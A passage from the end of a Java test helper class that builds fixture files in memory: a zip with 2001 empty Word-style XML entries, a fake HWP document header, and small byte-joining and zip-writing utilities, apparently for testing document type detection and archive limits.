        Map<String, byte[]> many = new HashMap<>();
        for (int i = 0; i < 2001; i++) {
            many.put("word/" + i + ".xml", new byte[0]);
        }
        return many;
    }

    private static byte[] hwp() {
        return join(
                new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0},
                new byte[1020],
                bytes("HWP Document File"),
                new byte[239]);
    }

    private static byte[] zip(String first, byte[] content, String second, byte[] more) {
        return zip(List.of(Map.of(first, content), Map.of(second, more)));
    }

    private static byte[] zip(Map<String, byte[]> entries) {
        return zip(List.of(entries));
    }

    private static byte[] zip(List<Map<String, byte[]>> entries) {
        return unchecked(() -> {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                for (Map<String, byte[]> some : entries) {
                    for (Map.Entry<String, byte[]> each : some.entrySet()) {
                        zip.putNextEntry(new ZipEntry(each.getKey()));
                        zip.write(each.getValue());
                        zip.closeEntry();
                    }
                }
            }
            return out.toByteArray();
        });
    }

    static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] join(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }

    private interface Making {
        byte[] make() throws IOException;
    }

    private static byte[] unchecked(Making making) {
        try {
            return making.make();
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
    }
}
